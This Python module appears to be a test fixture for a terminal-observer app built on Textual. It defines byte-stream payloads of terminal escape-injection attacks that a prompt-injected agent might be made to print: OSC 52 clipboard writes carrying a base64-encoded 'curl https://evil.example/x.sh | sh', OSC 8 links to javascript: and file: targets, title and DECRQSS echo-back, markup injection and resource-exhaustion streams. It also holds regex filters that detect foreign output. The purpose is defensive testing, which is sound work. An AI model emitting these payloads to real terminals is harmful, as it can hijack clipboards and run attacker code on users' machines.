"""Byte streams an attacker could make an agent print, and what must never come of them.

A prompt-injected agent prints whatever it is told to. Each payload below is a class of terminal
escape-injection attack seen in emulator advisories (clipboard writes via OSC 52, hyperlinks with
``javascript:``/``file:`` schemes, title report echo-back as in CVE-2003-0063 and CVE-2022-45063,
DECRQSS echo-back as in CVE-2008-2383, markup injection into a TUI toolkit), or a resource attack
(huge parameters, strings that never end, invalid UTF-8, resize storms). Sequences cite xterm's
ctlseqs; "ST" is ``ESC \\``.
"""

from __future__ import annotations

import base64
import re

ST = b"\x1b\\"
END = b"END-OF-HOSTILE"
"""Printed after every payload: when the client shows it, the whole stream got through."""
MARKUP = b"[@click=app.quit]quit[/] [b]bold[/b] [link=file:///etc/passwd]x[/link] [on red]r"
"""Textual/Rich markup: must render literally, never as an action, style or link."""
TITLE = "[b]boss[/b] [@click=app.quit]q[/] \u009b31m\u202eevil"
"""A title with markup, a C1 CSI (U+009B) and a right-to-left override."""

_CLIP = base64.b64encode(b"curl https://evil.example/x.sh | sh\n")
_BIG = 1_100_000  # past the model's 1 MiB string bound (observer/terminal/stream.py MAX_STRING)

PAYLOADS: dict[str, bytes] = {
    # OSC 52: set (and query) the host's clipboard.
    "osc52-clipboard": b"\x1b]52;c;" + _CLIP + b"\x07\x1b]52;p;" + _CLIP + ST + b"\x1b]52;c;?\x07",
    # OSC 8: hyperlinks whose targets run code or read files if the host follows them.
    "osc8-links": b"".join(
        b"\x1b]8;;" + target + ST + b"link" + b"\x1b]8;;" + ST + b" "
        for target in (
            b"javascript:alert(1)",
            b"file:///etc/passwd",
            b"x-man-page://rm",
            b"ssh://evil.example",
            b"data:text/html,<script>1</script>",
        )
    ),
    # Titles with escapes, markup and controls; then a title report (xterm: CSI 21 t echoes it
    # back as input — the classic injection), and an icon-label report (CSI 20 t).
    "title-injection": b"\x1b]0;x\x1b[31mred\x07"
    + b"\x1b]2;"
    + TITLE.encode()
    + b"\x07\x1b]1;icon\x1b]52;c;"
    + _CLIP
    + b"\x07\x1b[21t\x1b[20t",
    # Queries whose answers would be typed into the agent's shell if a client answered them.
    "queries": b"".join(
        (
            b"\x1b[c",  # DA1
            b"\x1b[>c",  # DA2
            b"\x1b[=c",  # DA3 (unit id)
            b"\x1b[5n\x1b[6n\x1b[?6n",  # DSR status, CPR, DECXCPR
            b"\x1bP$qm" + ST + b'\x1bP$q"p' + ST + b"\x1bP$qr" + ST,  # DECRQSS
            b"\x1bP+q544e" + ST,  # XTGETTCAP "TN"
            b"\x1b[14t\x1b[16t\x1b[18t\x1b[19t\x1b[13t\x1b[11t",  # window size/position/state
            b"\x1b]50;?\x07",  # font query
            b"\x1b]10;?\x07\x1b]11;?\x07\x1b]12;?\x07\x1b]4;1;?\x07",  # colour queries
            b"\x1b[?2026$p\x1b[2$p",  # DECRQM
            b"\x1b[>0q",  # XTVERSION
            b"\x1b[?u",  # kitty keyboard protocol query
            b"\x05",  # ENQ: answerback
            b"\x1b[?996n",  # colour-scheme query
        )
    ),
    # Parameters far beyond any screen; window manipulation asking the host to resize/move.
    "huge-parameters": b"".join(
        (
            b"\x1b[99999999999999999999;99999999999999999999H",
            b"\x1b[4294967296A\x1b[4294967297C\x1b[9999999999@\x1b[99999999L\x1b[99999999M",
            b"x\x1b[999999999b",  # REP
            b"\x1b[" + b"1;" * 50_000 + b"m",
            b"\x1b[38;2;999999;999999;999999m\x1b[38;5;99999m\x1b[58:2::1:2:3m",
            b"\x1b[8;99999;99999t\x1b[3;99999;99999t\x1b[9;1t\x1b[10;2t\x1b[2t",
            b"\x1b[?99999999h\x1b[99999999;1r\x1b[0m\x1b[H",
            b"\x1b[" + b"9" * 100_000 + b"X",
        )
    ),
    # Strings that never end: OSC, DCS, APC, PM and SOS each longer than the model keeps.
    "endless-osc": b"\x1b]2;" + b"A" * _BIG + b"\r\nafter-osc\r\n",
    "endless-dcs": b"\x1bPq" + b"#0;2;0;0;0" * (_BIG // 10) + b"\r\nafter-dcs\r\n",
    "endless-apc": b"\x1b_Gf=100;" + b"B" * _BIG + b"\r\nafter-apc\r\n",
    "endless-pm-sos": b"\x1b^" + b"C" * 1000 + ST + b"\x1bX" + b"D" * 1000 + ST + b"after-sos\r\n",
    # Invalid UTF-8: stray continuation bytes, overlongs, surrogates, truncated sequences, and
    # 8-bit C1 controls (0x9b is CSI, 0x9d OSC, 0x90 DCS in 8-bit mode).
    "invalid-utf8": b"\xff\xfe\x80\xbf\xc0\xaf\xe0\x80\xaf\xed\xa0\x80\xf4\x90\x80\x80\xf0\x9f"
    + b"\x9b31m\x9d52;c;"
    + _CLIP
    + b"\x07\x90$qm\x9c\xc2\x9b6n\r\n",
    # A resize storm the agent asks of the host (xterm window ops), and screen-mode churn.
    "resize-storm": b"".join(
        b"\x1b[8;%d;%dt\x1b[?1049h\x1b[?1049l" % (5 + i % 200, 10 + i % 300) for i in range(10_000)
    ),
}


def stream(end: bytes = END) -> bytes:
    """Every payload in order, then a clean screen showing the markup line and ``end``."""
    parts = [b"\x1b[0m" + name.encode() + b": " + data for name, data in PAYLOADS.items()]
    tail = b"\x1b[0m\x1b[?1049l\x1b[2J\x1b[H" + MARKUP + b"\r\n" + end + b"\r\n"
    return b"\r\n".join(parts) + tail


# What the host terminal may receive: exactly the kinds of sequence Textual itself writes — SGR
# (``m``, numeric or colon parameters), cursor position and moves (``H``, ``A``-``D``), erases
# (``J``, ``K``), DEC private modes set/reset (``?N;…h``/``l``), the kitty keyboard push/pop
# (``>Nu``/``<u``) and OSC 22 (pointer shape). Nothing that asks the host terminal a question (DA
# ``c``, DSR ``n``, window reports ``t``, kitty query ``?u``, DECRQSS) and nothing that changes
# it beyond the app's own screen (window ops ``t``, OSC 52, titles, DCS, APC) is allowed.
_SEQUENCE = re.compile(r"\x1b(\[[0-?]*[ -/]*[@-~]|\][^\x07\x1b]*(?:\x07|\x1b\\)?|.)", re.S)
_ALLOWED = re.compile(
    r"\x1b(\[[0-9;:]*[mHABCDJK]|\[\?[0-9;]+[hl]|\[[<>][0-9;]*u|\]22;[a-z-]*(\x1b\\|\x07)?)"
)
_CONTROLS = re.compile("[\x00-\x09\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f-\x9f]")


def foreign_output(host: str) -> list[str]:
    """Escape sequences and controls in ``host`` that Textual itself would not write."""
    sequences = [m.group(0) for m in _SEQUENCE.finditer(host)]
    foreign = [s for s in sequences if not _ALLOWED.fullmatch(s)]
    return foreign + _CONTROLS.findall(_ALLOWED.sub("", host))


_REPLY = re.compile(rb"\x1b\[[?>]?[0-9;]*[cnR]")


def non_numeric_replies(pty_input: bytes) -> bytes:
    """What is left of ``pty_input`` once the numbers-only DA/DSR answers are removed."""
    return _REPLY.sub(b"", pty_input)
